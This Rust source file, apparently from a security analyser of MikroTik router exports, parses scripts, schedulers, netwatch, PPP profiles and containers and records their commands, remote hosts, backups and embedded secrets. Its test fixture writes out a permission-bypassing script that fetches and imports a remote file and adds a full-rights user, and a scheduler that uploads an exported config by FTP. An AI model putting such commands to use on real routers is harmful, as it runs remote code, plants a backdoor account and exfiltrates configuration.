//! `/system script`, `/system scheduler`, `/tool netwatch`, `/ppp profile`, `/container`: what runs by itself.
//!
//! Source: MikroTik, "Scripting": commands stand between ends of lines, `;`, brackets and braces; `:` begins words of the language. A scheduler
//! starts a script, or commands, at a time or with the device; Netwatch when a host answers or does not; a profile of PPP when a session comes or goes.

use seawall_api::menu::{Menu, Record};
use seawall_api::model::{Automation, AutomationKind, Backup, EmbeddedCommand, SecretUse, Transfer, User};
use seawall_api::place::{Remote, file_name};
use seawall_api::secret::Purpose;
use seawall_api::secret::typed::Typed;
use seawall_api::{Fact, Span, Why};

use super::pieces::{self, Piece};
use crate::PLATFORM;
use crate::builder::Builder;

/// The menus of this subject.
pub(crate) const MENUS: &[&[Menu<Builder>]] = &[&[
    Menu::records("system script", "name", FEEDS, script)
        .reads("name=name source=script dont-require-permissions=flag owner=name policy=setting")
        .ignores("run-count=number last-started=text")
        .wide(),
    Menu::records("system scheduler", "name", FEEDS, scheduler)
        .reads("name=name on-event=script start-time=setting interval=time owner=name policy=setting")
        .ignores("start-date=setting run-count=number next-run=text")
        .wide(),
    Menu::records("tool netwatch", "host", FEEDS, netwatch)
        .reads("host=host name=name up-script=script down-script=script test-script=script")
        .ignores(
            "interval=time timeout=time type=setting port=number src-address=address start-delay=time startup-delay=time certificate=name \
             check-certificate=flag http-codes=setting packet-count=number packet-interval=time packet-size=number thr-avg=time thr-http-time=time \
             thr-jitter=time thr-loss-count=number thr-loss-percent=setting thr-max=time thr-stdev=time thr-tcp-conn-time=time ttl=number \
             accept-icmp-time-exceeded=flag record-type=setting dns-server=address since=text status=text done-tests=number failed-tests=number \
             ignore-initial-up=flag ignore-initial-down=flag http-resp-time=time",
        )
        .wide(),
    Menu::records("ppp profile", "name", FEEDS, profile)
        .reads("name=name on-up=script on-down=script default=flag number=number")
        .ignores(
            "address-list=name bridge=name bridge-horizon=setting bridge-learning=setting bridge-path-cost=number bridge-port-priority=setting \
             bridge-port-trusted=flag bridge-port-vid=number change-tcp-mss=setting dhcpv6-pd-pool=name dhcpv6-use-radius=setting dns-server=address idle-timeout=time \
             incoming-filter=name insert-queue-before=name interface-list=name local-address=setting only-one=setting outgoing-filter=name \
             parent-queue=name queue-type=name rate-limit=setting remote-address=setting remote-ipv6-prefix-pool=name remote-ipv6-prefix-reuse=flag \
             session-timeout=time use-compression=setting use-encryption=setting use-ipv6=setting use-mpls=setting use-upnp=setting use-vj-compression=setting \
             wins-server=address dhcpv6-lease-time=time",
        )
        .wide(),
    Menu::records("container", "name", FEEDS, container)
        .reads("name=name hostname=name remote-image=text file=text tag=text interface=name")
        .ignores(
            "cmd=text dns=address domain-name=text entrypoint=text envlist=name envlists=name envs=name logging=flag mounts=name mountlists=name root-dir=text start-on-boot=flag stop-signal=setting \
             user=text workdir=text memory-high=setting auto-restart-interval=time devices=name check-certificate=flag shm-size=setting cpu-list=setting layer-dir=text",
        )
        .wide(),
    Menu::ignored_settings(
        "container config",
        "memory-high=setting ram-high=setting registry-url=url tmpdir=text username=name password=text layer-dir=text",
    ),
    Menu::ignored_records("container envs", "key", "key=name name=name list=name value=text"),
    Menu::ignored_records("container mounts", "name", "dst=text name=name src=text list=name read-only=flag"),
    Menu::ignored_settings("tool graphing", "page-refresh=setting store-every=setting"),
]];

const FEEDS: &[&str] = &["automation", "backups", "users"];

fn started(record: &Record<'_>, name: &str, kind: AutomationKind, trigger: &str, at: Span) -> Automation {
    Automation {
        at: record.at(),
        active: !record.disabled(),
        name: name.to_owned(),
        kind,
        trigger: Fact::Set(trigger.to_owned(), at),
        hides_command: Fact::Default(false),
        authorization_bypassed: Fact::Default(false),
        signed: Fact::Default(false),
        built_in: Fact::Default(false),
        account: match record.string("owner") {
            Some(owner) => record.set_at("owner", Some(owner)),
            None if record.doubts("owner") => Fact::Unknown(Why::UnreadLine),
            None => Fact::Default(None),
        },
        rights: match record.span_of("policy") {
            Some(at) => Fact::Set(record.parts("policy").into_iter().map(|(right, _)| right.to_owned()).collect(), at),
            None => Fact::default(),
        },
        ..Automation::default()
    }
}

fn script(builder: &mut Builder, record: &Record<'_>) -> Option<()> {
    let name = record.get("name")?;
    let mut this = started(record, name, AutomationKind::Script, "none", record.at());
    if let Some(bypasses) = record.flag("dont-require-permissions") {
        this.authorization_bypassed = record.set_at("dont-require-permissions", bypasses);
    }
    this.commands = commands(builder, record, "source", &format!("script {name}"), "script");
    builder.model.automation.push(this);
    Some(())
}

fn scheduler(builder: &mut Builder, record: &Record<'_>) -> Option<()> {
    let name = record.get("name")?;
    let boots = record.get("start-time") == Some("startup");
    let trigger = if boots { "boot" } else { "timer" };
    let at = record.span_of("start-time").unwrap_or(record.at());
    let mut this = started(record, name, AutomationKind::Scheduler, trigger, at);
    this.commands = commands(builder, record, "on-event", &format!("scheduler {name}"), "scheduler");
    builder.model.automation.push(this);
    Some(())
}

fn netwatch(builder: &mut Builder, record: &Record<'_>) -> Option<()> {
    let name = record.get("name").or(record.get("host"))?;
    let mut this = started(record, name, AutomationKind::EventHandler, "host", record.at());
    for key in ["up-script", "down-script", "test-script"] {
        this.commands.extend(commands(builder, record, key, &format!("netwatch {name}"), "script"));
    }
    if !this.commands.is_empty() {
        builder.model.automation.push(this);
    }
    Some(())
}

fn profile(builder: &mut Builder, record: &Record<'_>) -> Option<()> {
    let name = record.get("name").unwrap_or("default");
    let mut this = started(record, name, AutomationKind::EventHandler, "ppp", record.at());
    for key in ["on-up", "on-down"] {
        this.commands.extend(commands(builder, record, key, &format!("ppp profile {name}"), "script"));
    }
    if !this.commands.is_empty() {
        builder.model.automation.push(this);
    }
    Some(())
}

fn container(builder: &mut Builder, record: &Record<'_>) -> Option<()> {
    let name = record.get("name").or(record.get("hostname")).or(record.get("interface")).unwrap_or("container");
    let mut this = started(record, name, AutomationKind::Container, "boot", record.at());
    this.commands = Vec::new();
    builder.model.automation.push(this);
    Some(())
}

/// The commands of a script in a property.
fn commands(
    builder: &mut Builder,
    record: &Record<'_>,
    key: &str,
    owner: &str,
    by: &'static str,
) -> Vec<EmbeddedCommand> {
    let Some(value) = record.value(key) else { return Vec::new() };
    let text = value.text.as_ref();
    let mut found = Vec::new();
    for piece in pieces::split(text) {
        let span = value.place(piece.from, piece.to);
        found.push(command(builder, &piece, (span, owner, by)));
    }
    found
}

fn command(builder: &mut Builder, piece: &Piece<'_>, (span, owner, by): (Span, &str, &'static str)) -> EmbeddedCommand {
    let (words, action) = pieces::meaning(piece);
    let url = piece.get("url").and_then(Remote::of);
    let moves = words.starts_with("tool fetch");
    let host = match (&url, piece.get("address")) {
        (Some(remote), _) => remote.host.clone(),
        (None, Some(address)) if moves => Some(address.to_owned()),
        _ => None,
    };
    let computed = moves && (piece.computed("url") || piece.computed("address") || url.is_none() && host.is_none());
    let transfer = url.as_ref().map(|remote| remote.transfer).or_else(|| {
        moves.then(|| match piece.get("mode") {
            Some("tftp") => Transfer::Tftp,
            Some("ftp") => Transfer::Ftp,
            Some("sftp") => Transfer::Sftp,
            Some("https") => Transfer::Https,
            Some("http") | None => Transfer::Http,
            Some(_) => Transfer::Other,
        })
    });
    let secret = url.as_ref().and_then(|remote| remote.password.as_deref()).or_else(|| piece.get("password"));
    if let Some(secret) = secret.filter(|secret| !secret.is_empty() && !secret.starts_with('$')) {
        let account = words.starts_with("user ");
        let purpose = if account { Purpose::User } else { Purpose::Other };
        let typed = Typed { platform: PLATFORM, purpose, user: "", kind: Some("0"), text: secret, span };
        let kept = typed.classify(&builder.secrets);
        let opens = if account { SecretUse::User } else { SecretUse::Client };
        builder.store_at(opens, owner, &kept, span);
    }
    if words == "user add" {
        made(builder, piece, span);
    }
    let remote = match (&host, computed) {
        (Some(host), _) if !host.contains(['$', '(', '[']) => Fact::Set(Some(host.clone()), span),
        (Some(_), _) | (None, true) => Fact::Unknown(Why::NotStated),
        (None, false) => Fact::Set(None, span),
    };
    if moves && piece.get("upload") == Some("yes") {
        builder.model.backups.push(Backup {
            at: span,
            transfer: transfer.map_or_else(Fact::default, |transfer| Fact::Set(transfer, span)),
            server: remote.clone(),
            on_change: Fact::Set(false, span),
            by: Fact::Set(by.to_owned(), span),
            ..Backup::default()
        });
    }
    let local = action == "copy" && !moves;
    EmbeddedCommand {
        at: span,
        action: Fact::Set(action.to_owned(), span),
        removes: Fact::Set(piece.words.iter().any(|word| matches!(*word, "remove" | "disable")), span),
        words: Fact::Set(words, span),
        remote,
        transfer: match transfer {
            Some(transfer) => Fact::Set(Some(transfer.word().to_owned()), span),
            None => Fact::Set(local.then(|| "local".to_owned()), span),
        },
        file: Fact::Set(["src-path", "dst-path", "file-name"].iter().find_map(|key| file_name(piece.get(key)?)), span),
        in_shell: Fact::Default(false),
        ..EmbeddedCommand::default()
    }
}

/// An account that a script makes. Those of the device itself no export holds.
fn made(builder: &mut Builder, piece: &Piece<'_>, at: Span) {
    let Some(name) = piece.get("name").filter(|name| !name.is_empty() && !piece.computed("name")) else { return };
    let group = piece.get("group").filter(|_| !piece.computed("group"));
    builder.model.users.push(User {
        at,
        name: name.to_owned(),
        role: group.map_or_else(Fact::default, |group| Fact::Set(Some(group.to_owned()), at)),
        administrator: match group {
            Some("full") => Fact::Set(true, at),
            Some("read") => Fact::Set(false, at),
            _ => Fact::default(),
        },
        superuser: Fact::Default(false),
        shell: Fact::Default(false),
        can_log_in: Fact::Default(true),
        built_in: Fact::Default(false),
        ..User::default()
    });
}

#[cfg(test)]
mod tests {
    use crate::sample::{unknown, whole};

    #[test]
    fn scripts_are_taken_apart() {
        let reading = whole(
            "/system script\nadd dont-require-permissions=yes name=upd source=\"/tool fetch url=\\\"http://192.0.2.66/u.rsc\\\"; :delay 5s\\r\\\n    \\n/import u.rsc\\r\\\n    \\n:if (\\$a = 1) do={ /user add name=x group=full password=Kx9-example }\"\n\
             /system scheduler\nadd interval=1d name=save on-event=\"/export file=e; /tool fetch upload=yes mode=ftp src-path=e.rsc address=192.0.2.67 user=x password=Qw4-example\" start-time=startup\n\
             /tool netwatch\nadd host=10.0.0.1 up-script=\":log info up\"\n",
        );
        assert_eq!(unknown(&reading), [""; 0]);
        let all = &reading.model.automation;
        let said: Vec<_> = all
            .iter()
            .flat_map(|it| &it.commands)
            .map(|it| {
                (
                    it.words.value().unwrap().as_str(),
                    it.action.value().unwrap().as_str(),
                    it.remote.configured().map(String::as_str),
                )
            })
            .collect();
        assert_eq!(
            said,
            [
                ("tool fetch", "copy", Some("192.0.2.66")),
                ("import", "shell", None),
                ("user add", "user", None),
                ("export", "copy", None),
                ("tool fetch", "copy", Some("192.0.2.67")),
            ]
        );
        assert_eq!((reading.model.backups.len(), reading.model.secrets.len()), (1, 2));
    }
}
